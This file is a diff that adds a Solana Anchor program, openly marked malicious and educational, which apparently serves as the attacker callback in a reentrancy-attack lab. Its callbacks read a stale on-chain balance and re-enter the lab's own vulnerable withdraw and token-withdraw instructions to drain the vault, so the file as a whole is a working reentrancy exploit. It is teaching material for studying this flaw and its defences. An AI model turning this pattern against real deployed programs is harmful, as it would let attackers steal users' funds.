@@ -0,0 +1,140 @@
+// ❌ MALICIOUS - Callback that tries to re-enter the withdraw
+// ⚠️ EDUCATIONAL ONLY: pairs with withdraw_with_callback_* in 06-reentrance-attack
+use anchor_lang::prelude::*;
+use reentrance_attack::program::ReentranceAttack;
+use reentrance_attack::secure::{TokenBalance, UserAccount};
+
+declare_id!("GexDaQUnvuwSjdQXXqLBoWvxB8ugiGEpHacmXC2ppG3k");
+
+#[program]
+pub mod reentrance_callback {
+    use super::*;
+    
+    /// Called mid-withdraw. If the balance on chain still covers another
+    /// withdrawal, the caller hasn't written its state yet - try to re-enter.
+    /// A non-zero call depth means a depth-tracked withdrawal is in flight,
+    /// so try to nest inside that one instead.
+    pub fn on_withdraw(ctx: Context<OnWithdraw>, amount: u64) -> Result<()> {
+        let stale_balance = ctx.accounts.user_account.balance;
+        
+        if ctx.accounts.user_account.call_depth > 0 {
+            msg!("Call depth {} observed, re-entering withdraw_depth_tracked", ctx.accounts.user_account.call_depth);
+            return reentrance_attack::cpi::withdraw_depth_tracked(
+                CpiContext::new(
+                    ctx.accounts.reentrance_program.to_account_info(),
+                    reentrance_attack::cpi::accounts::WithdrawDepthTracked {
+                        user: ctx.accounts.user.to_account_info(),
+                        user_account: ctx.accounts.user_account.to_account_info(),
+                        vault: ctx.accounts.vault.to_account_info(),
+                        callback_program: Some(ctx.accounts.callback_program.to_account_info()),
+                        this_program: ctx.accounts.reentrance_program.to_account_info(),
+                    },
+                ),
+                amount,
+            );
+        }
+        
+        if stale_balance < amount {
+            msg!("Balance already updated ({}), nothing to steal", stale_balance);
+            return Ok(());
+        }
+        
+        msg!("Stale balance {} observed, re-entering withdraw", stale_balance);
+        reentrance_attack::cpi::withdraw_with_callback_vulnerable(
+            CpiContext::new(
+                ctx.accounts.reentrance_program.to_account_info(),
+                reentrance_attack::cpi::accounts::WithdrawWithCallbackVulnerable {
+                    user: ctx.accounts.user.to_account_info(),
+                    user_account: ctx.accounts.user_account.to_account_info(),
+                    vault: ctx.accounts.vault.to_account_info(),
+                    callback_program: ctx.accounts.callback_program.to_account_info(),
+                    this_program: ctx.accounts.reentrance_program.to_account_info(),
+                },
+            ),
+            amount,
+        )
+    }
+    
+    /// Stands in for a Token-2022 transfer hook: called mid token withdraw.
+    /// Same idea as `on_withdraw`, but against the user's balance for the
+    /// mint being withdrawn.
+    pub fn on_token_withdraw(ctx: Context<OnTokenWithdraw>, amount: u64) -> Result<()> {
+        let stale_balance = ctx.accounts.token_balance.balance;
+        
+        if stale_balance < amount {
+            msg!("Balance already updated ({}), nothing to steal", stale_balance);
+            return Ok(());
+        }
+        
+        msg!("Stale balance {} observed, re-entering token withdraw", stale_balance);
+        reentrance_attack::cpi::withdraw_tokens_vulnerable(
+            CpiContext::new(
+                ctx.accounts.reentrance_program.to_account_info(),
+                reentrance_attack::cpi::accounts::WithdrawTokensVulnerable {
+                    user: ctx.accounts.user.to_account_info(),
+                    token_balance: ctx.accounts.token_balance.to_account_info(),
+                    vault: ctx.accounts.vault.to_account_info(),
+                    mint: ctx.accounts.mint.to_account_info(),
+                    vault_token_account: ctx.accounts.vault_token_account.to_account_info(),
+                    user_token_account: ctx.accounts.user_token_account.to_account_info(),
+                    token_program: ctx.accounts.token_program.to_account_info(),
+                    hook_program: ctx.accounts.callback_program.to_account_info(),
+                    this_program: ctx.accounts.reentrance_program.to_account_info(),
+                },
+            ),
+            amount,
+        )
+    }
+}
+
+/// Account order matches `callback::invoke_withdraw_callback`
+#[derive(Accounts)]
+pub struct OnWithdraw<'info> {
+    #[account(mut)]
+    pub user: Signer<'info>,
+    
+    /// Read-only here; writable privilege is inherited from the caller
+    pub user_account: Account<'info, UserAccount>,
+    
+    /// CHECK: Passed straight back to the re-entrant call
+    #[account(mut)]
+    pub vault: AccountInfo<'info>,
+    
+    pub reentrance_program: Program<'info, ReentranceAttack>,
+    
+    /// CHECK: This program, passed back as the next callback
+    pub callback_program: AccountInfo<'info>,
+}
+
+/// Account order matches `tokens::invoke_token_hook`
+#[derive(Accounts)]
+pub struct OnTokenWithdraw<'info> {
+    #[account(mut)]
+    pub user: Signer<'info>,
+    
+    /// Read-only here; writable privilege is inherited from the caller
+    pub token_balance: Account<'info, TokenBalance>,
+    
+    /// CHECK: Passed straight back to the re-entrant call
+    #[account(mut)]
+    pub vault: AccountInfo<'info>,
+    
+    /// CHECK: Passed straight back to the re-entrant call
+    pub mint: AccountInfo<'info>,
+    
+    /// CHECK: Passed straight back to the re-entrant call
+    #[account(mut)]
+    pub vault_token_account: AccountInfo<'info>,
+    
+    /// CHECK: Passed straight back to the re-entrant call
+    #[account(mut)]
+    pub user_token_account: AccountInfo<'info>,
+    
+    /// CHECK: Passed straight back to the re-entrant call
+    pub token_program: AccountInfo<'info>,
+    
+    pub reentrance_program: Program<'info, ReentranceAttack>,
+    
+    /// CHECK: This program, passed back as the next hook
+    pub callback_program: AccountInfo<'info>,
+}